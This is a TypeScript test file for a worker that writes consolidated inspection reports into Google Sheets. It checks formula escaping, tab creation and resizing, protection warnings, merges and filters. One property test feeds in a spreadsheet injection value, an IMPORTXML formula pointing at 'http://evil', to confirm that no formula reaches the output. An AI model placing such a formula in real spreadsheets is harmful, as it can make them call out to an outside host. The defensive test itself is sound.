import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { zeroMetrics } from "../../shared/metrics.ts";
import { resolvePeriod } from "../../shared/periods.ts";
import { emptyUnitRows } from "../../shared/read-unit.ts";
import type { ConsolidationReport } from "../../worker/consolidation/model.ts";
import { buildOutputRequests } from "../../worker/consolidation/output/build-output.ts";
import { linkText, text } from "../../worker/consolidation/output/cells.ts";
import { PROTECTION_DESCRIPTION, planTabs } from "../../worker/consolidation/output/tab-plan.ts";

const period = resolvePeriod("2026")!;

function report(target: string): ConsolidationReport {
  const rows = emptyUnitRows();
  rows.inspections.push({
    date: "2026-03-05",
    inspector: "Ban Chỉ đạo cấp tỉnh",
    method: "Kiểm tra",
    round: null,
    target,
    targetType: "Doanh nghiệp",
    rating: null,
    recommendations: 3,
    remedied: 1,
    notes: target,
  });
  return {
    period,
    generatedAt: "2026-11-23T08:00:00.000Z",
    outcomes: [
      {
        state: {
          code: target,
          position: 0,
          name: target,
          spreadsheetId: "x",
          status: "stale",
          error: target,
          checkedAt: "2026-11-23T08:00:00.000Z",
          readAt: "2026-11-22T08:00:00.000Z",
          snapshotSpreadsheetId: "x",
          tabTitles: null,
        },
        snapshot: { rows, issues: [], invalidRows: 0, tabProblems: [] },
        metrics: zeroMetrics(),
        errorFromRegistry: false,
      },
    ],
    provinceIssues: [],
    total: zeroMetrics(),
    comparison: { samePeriodLastYear: null, previousPeriod: null },
    province: { spreadsheetId: "tinh", title: target, sheets: [] },
    contacts: new Map([[target, { person: target, phone: target, email: target }]]),
  };
}

describe("output requests", () => {
  it("never carry a formula, whatever a unit typed", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.string().map((s) => `=${s}`),
          fc.constant('=IMPORTXML("http://evil","//a")'),
        ),
        (value) => {
          const json = JSON.stringify(buildOutputRequests(report(value), [], []));
          expect(json).not.toContain("formulaValue");
        },
      ),
      { numRuns: 50 },
    );
  });

  it("adds missing tabs with fresh sheetIds and resizes existing ones to the content", () => {
    const requests = planTabs(
      [
        { sheetId: 0, title: "Đơn vị" },
        { sheetId: 7, title: "tổng hợp", gridProperties: { rowCount: 1000, columnCount: 26 } },
      ],
      [
        {
          title: "Tổng hợp",
          rows: [[text("a"), text("b")], [text("c")]],
          frozenRows: 1,
          columnWidths: [50],
        },
        { title: "Nhật ký", rows: [[text("x")]], frozenRows: 1, columnWidths: [] },
        { title: "Lỗi dữ liệu", rows: [[text("y")]], frozenRows: 1, columnWidths: [] },
      ],
    );
    const kinds = requests.map((r) => Object.keys(r)[0]);
    // An existing tab's old formats are cleared (repeatCell) before the values are written.
    expect(kinds).toEqual([
      "unmergeCells",
      "updateSheetProperties",
      "repeatCell",
      "updateCells",
      "addProtectedRange",
      "updateDimensionProperties",
      "addSheet",
      "updateCells",
      "addProtectedRange",
      "addSheet",
      "updateCells",
      "addProtectedRange",
    ]);
    const added = requests.flatMap((r) => ("addSheet" in r ? [r.addSheet.properties] : []));
    expect(added.map((p) => [p.title, p.sheetId])).toEqual([
      ["Nhật ký", 8],
      ["Lỗi dữ liệu", 9],
    ]);
    const resize = requests[1];
    expect(
      resize && "updateSheetProperties" in resize && resize.updateSheetProperties.properties,
    ).toEqual({
      sheetId: 7,
      gridProperties: { rowCount: 3, columnCount: 2, frozenRowCount: 1, frozenColumnCount: 0 },
    });
  });

  it("protects an output tab with a warning once, not again on later runs", () => {
    const tab = { title: "Nhật ký", rows: [[text("x")]], frozenRows: 1, columnWidths: [] };
    const existing = [{ sheetId: 4, title: "Nhật ký" }];
    const protections = (requests: ReturnType<typeof planTabs>) =>
      requests.flatMap((r) =>
        "addProtectedRange" in r ? [r.addProtectedRange.protectedRange] : [],
      );
    expect(protections(planTabs(existing, [tab]))).toEqual([
      { range: { sheetId: 4 }, description: PROTECTION_DESCRIPTION, warningOnly: true },
    ]);
    expect(protections(planTabs(existing, [tab], new Set([4])))).toEqual([]);
  });

  it("merges, filters and links as the tab asks, after the values", () => {
    const requests = planTabs(
      [],
      [
        {
          title: "Lỗi dữ liệu",
          rows: [
            [text("Mã"), text("Dòng")],
            [text("A"), linkText("7", "https://x/#gid=1")],
          ],
          frozenRows: 1,
          columnWidths: [],
          merges: [{ rows: [0, 1], columns: [0, 2] }],
          filterHeaderRow: 0,
        },
      ],
    );
    const kinds = requests.map((r) => Object.keys(r)[0]);
    expect(kinds.indexOf("mergeCells")).toBeGreaterThan(kinds.indexOf("updateCells"));
    const write = requests.find((r) => "updateCells" in r);
    expect(write && "updateCells" in write && write.updateCells.fields).toContain("textFormatRuns");
    const filter = requests.find((r) => "setBasicFilter" in r);
    expect(
      filter && "setBasicFilter" in filter && filter.setBasicFilter.filter.range,
    ).toMatchObject({
      startRowIndex: 0,
      endRowIndex: 3,
      endColumnIndex: 2,
    });
  });
});
